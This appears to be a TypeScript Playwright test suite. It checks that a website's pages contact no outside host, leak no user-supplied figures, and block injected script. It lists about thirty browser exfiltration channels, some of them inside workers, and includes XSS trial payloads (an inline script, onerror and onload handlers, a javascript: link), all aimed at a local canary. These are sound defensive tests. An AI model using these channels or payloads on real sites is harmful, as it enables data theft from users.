import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium, type Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { findChromium } from '../../scripts/node/find-chromium.ts';
import { quiet } from '../../scripts/node/quiet-chromium.ts';
import { hostsAskedFor } from './adversary-net-log.ts';
import { type Canary, startCanary } from './canary.ts';
import { addressOf, closeBrowser, openPage } from './site.ts';
import { templates } from './templates.ts';

let canary: Canary;
beforeAll(async () => {
  canary = await startCanary();
});
afterEach(() => void (canary.heard.length = 0));
afterAll(async () => {
  await closeBrowser();
  await canary.close();
});

const secrets = ['13.371', 'Child-4711', 'canary-file'];

/** Places figures of one's own on the page of comparisons. */
async function placeOwn(page: Page): Promise<void> {
  await page.goto(addressOf('/compare/'), { waitUntil: 'networkidle' });
  await page.locator('own-figures [data-part="file"]').setInputFiles({
    name: 'canary-file.csv',
    mimeType: '',
    buffer: Buffer.from(`indicator,year,value,note\nvacancy_rate,2026,${secrets[0]},${secrets[1]}\n`),
  });
  await page.locator('[data-part="place"]').click();
  await page.locator('[data-part="placed"]:visible').waitFor();
}

/** Opens a file of one's own in the console and asks it something. */
async function openOwn(page: Page): Promise<void> {
  await page.goto(addressOf('/query/'), { waitUntil: 'networkidle' });
  await page.locator('[data-part="choose-file"]').setInputFiles({
    name: 'canary-file.csv',
    mimeType: '',
    buffer: Buffer.from(`authority,note\nA001,${secrets[1]}\n`),
  });
  await page.locator('[data-part="file-state"]', { hasText: 'is open as the table' }).waitFor();
}

/**
 * A page of someone else that asks another host for something: what the log must show. Names looked up ahead of time are
 * not in it, because a browser that is driven does not do so; no page of ours asks for it (adversary-policy.test.ts).
 */
const talkative =
  '<!doctype html><html lang="en"><title>Other</title><img alt="" src="http://picture.example/x">';

describe('a reader who goes through the site with figures and a file of their own', () => {
  const folder = mkdtempSync(join(tmpdir(), 'net-log-'));
  const asked: string[] = [];
  let control: Canary;

  /** What hosts a browser asked for while it did something, by its own log. */
  async function hostsOf(act: (page: Page) => Promise<unknown>): Promise<string[]> {
    const log = join(folder, 'log.json');
    const browser = await chromium.launch({
      executablePath: findChromium(),
      args: [...quiet, `--log-net-log=${log}`],
    });
    const page = await browser.newPage();
    page.on('request', (request) => asked.push(`${request.url()} ${request.postData() ?? ''}`));
    await act(page);
    await browser.close();
    return hostsAskedFor(readFileSync(log, 'utf8'));
  }

  beforeAll(async () => {
    control = await startCanary({ type: 'text/html', text: talkative });
  });
  afterAll(async () => {
    await control.close();
    rmSync(folder, { recursive: true });
  });

  it('asks no other host for anything, by the log of the browser, and sends no part of what is theirs', async () => {
    const hosts = await hostsOf(async (page) => {
      for (const { path } of templates()) await page.goto(addressOf(path), { waitUntil: 'networkidle' });
      await placeOwn(page);
      await openOwn(page);
      await page.locator('.masthead a[href$="/links/"]:visible').first().click();
      await page.goBack({ waitUntil: 'networkidle' });
    });
    expect(hosts).toEqual([new URL(addressOf('/')).host]);
    expect(asked.length).toBeGreaterThan(100);
    expect(asked.filter((line) => secrets.some((secret) => line.includes(secret)))).toEqual([]);
  });

  it('would be seen to ask: the log shows a page that does', async () => {
    const hosts = await hostsOf((page) => page.goto(control.url, { waitUntil: 'networkidle' }));
    expect(hosts).toEqual([new URL(control.url).host, 'picture.example'].toSorted());
  });
});

/** Ways out that someone might try who got text of theirs to run in a page. CANARY is the address that must hear nothing. */
const waysOut = [
  'fetch(CANARY)',
  'fetch(CANARY, { mode: "no-cors", keepalive: true, method: "POST", body: "x" })',
  'send(new XMLHttpRequest(), "GET", CANARY)',
  'navigator.sendBeacon(CANARY, "x")',
  'new Image().src = CANARY',
  'new Audio(CANARY).load()',
  'put("script", { src: CANARY })',
  'put("script", { src: CANARY, type: "module" })',
  'put("link", { rel: "stylesheet", href: CANARY })',
  'put("link", { rel: "prefetch", href: CANARY })',
  'put("link", { rel: "preload", as: "fetch", href: CANARY })',
  'put("link", { rel: "modulepreload", href: CANARY })',
  'put("link", { rel: "icon", href: CANARY })',
  'put("link", { rel: "manifest", href: CANARY })',
  'put("script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ urls: [CANARY] }] }) })',
  'new WebSocket(CANARY.replace("http", "ws"))',
  'new EventSource(CANARY)',
  'new WebTransport(CANARY.replace("http", "https"))',
  'put("form", { action: CANARY, method: "post" }).submit()',
  'put("a", { href: "#x", ping: CANARY }).click()',
  'put("iframe", { src: CANARY })',
  'put("iframe", { srcdoc: "<img src=" + CANARY + ">" })',
  'put("object", { data: CANARY })',
  'put("embed", { src: CANARY })',
  'put("video", { poster: CANARY, src: CANARY })',
  'put("style", { textContent: "@import url(" + CANARY + ")" })',
  'new FontFace("x", "url(" + CANARY + ")").load()',
  'new Worker(CANARY)',
  'new SharedWorker(CANARY)',
  'navigator.serviceWorker.register(CANARY)',
  'import(CANARY)',
  'CSS.paintWorklet?.addModule(CANARY)',
  'new AudioContext().audioWorklet.addModule(CANARY)',
  'document.body.setAttribute("background", CANARY)',
] as const;

/** The same in a worker. */
const waysOutOfWorkers = [
  'fetch(CANARY)',
  'send(new XMLHttpRequest(), "GET", CANARY)',
  'new WebSocket(CANARY.replace("http", "ws"))',
  'new EventSource(CANARY)',
  'new WebTransport(CANARY.replace("http", "https"))',
  'importScripts(CANARY)',
  'import(CANARY)',
  'new Worker(CANARY)',
  'new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(CANARY) + ")"])))',
  'new FontFace("x", "url(" + CANARY + ")").load()',
] as const;

describe('text of someone else that runs in a page of ours', () => {
  it('gets nothing out by any of the usual ways', async () => {
    const { page, close } = await openPage('/compare/', { expected: /./ });
    for (const way of waysOut) await attempt(page, way);
    await page.waitForTimeout(500);
    expect(canary.heard).toEqual([]);
    await close();
  });

  it('gets nothing out by a worker of its own', async () => {
    const { page, close } = await openPage('/query/', { expected: /./ });
    for (const way of waysOutOfWorkers) {
      await page.evaluate(
        async ([code, url]) => {
          const text = `const CANARY = ${JSON.stringify(url)};
            const send = (request, method, to) => { request.open(method, to); request.send(); };
            (async () => ${code})().catch(() => {}).finally(() => setTimeout(() => postMessage(0), 100));`;
          const worker = new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
          await new Promise((done) => {
            worker.addEventListener('message', done);
            worker.addEventListener('error', done);
          });
        },
        [way, `${canary.url}${encodeURIComponent(way)}`] as const,
      );
    }
    expect(canary.heard).toEqual([]);
    await close();
  });

  it('could still leave for another page: that no policy in a page stops, so nothing of someone else may run', async () => {
    const { page, close } = await openPage('/compare/', { expected: /./ });
    await page.evaluate((url) => void (location.href = `${url}left`), canary.url);
    await page.waitForURL(`${canary.url}left`);
    expect(canary.heard).toContain('GET /left');
    await close();
  });
});

/** Tries a way out in a page and gives it time to come about. */
async function attempt(page: Page, way: string): Promise<void> {
  await page
    .evaluate(
      async ([code, url]) => {
        const put = (name: string, properties: Record<string, string>): HTMLElement => {
          const element = Object.assign(document.createElement(name), properties);
          for (const [key, value] of Object.entries(properties))
            if (key !== 'textContent') element.setAttribute(key, value);
          return document.body.appendChild(element);
        };
        const send = (request: XMLHttpRequest, method: string, to: string): void => {
          request.open(method, to);
          request.send();
        };
        const run = new Function('CANARY', 'put', 'send', `return (${code})`) as (
          ...given: unknown[]
        ) => unknown;
        const result = run(`${url}${encodeURIComponent(code)}`, put, send);
        await Promise.race([result, new Promise((done) => setTimeout(done, 30))]);
      },
      [way, canary.url] as const,
    )
    .catch(() => {}); // a refused attempt may throw
}

describe('text of someone else', () => {
  it('does not run in a page of ours: not as a script, a handler, an address or a text that is run', async () => {
    const trial = `<script>ran.push('inline')</script><img src="x:" onerror="ran.push('handler')">
      <svg onload="ran.push('svg')"></svg><a id="trial" href="javascript:ran.push('address')">a</a>`;
    const tries = `;globalThis.ran ??= [];
      for (const go of [() => (0, eval)('ran.push("eval")'), () => new Function('ran.push("Function")')(),
        () => setTimeout('ran.push("timeout")')])
        try { go(); } catch { globalThis.refused = (globalThis.refused ?? 0) + 1; }`;
    const { page, close, faults } = await openPage('/compare/', {
      expected: /./,
      before: async (each) => {
        await each.route('**/compare/', async (route) => {
          const response = await route.fetch();
          const text = (await response.text()).replace('</main>', `${trial}</main>`);
          await route.fulfill({ response, body: text });
        });
        await each.route('**/_astro/MyAuthority*.js', async (route) => {
          const response = await route.fetch();
          await route.fulfill({ response, body: `${tries}${await response.text()}` });
        });
      },
    });
    await page.locator('#trial').click();
    await page.waitForTimeout(200);
    expect(await page.evaluate(() => Reflect.get(globalThis, 'ran') as string[])).toEqual([]);
    expect(await page.evaluate(() => Reflect.get(globalThis, 'refused') as number)).toBe(2);
    expect(faults.filter((fault) => fault.startsWith('policy: script-src')).length).toBeGreaterThanOrEqual(4);
    await close();
  });
});
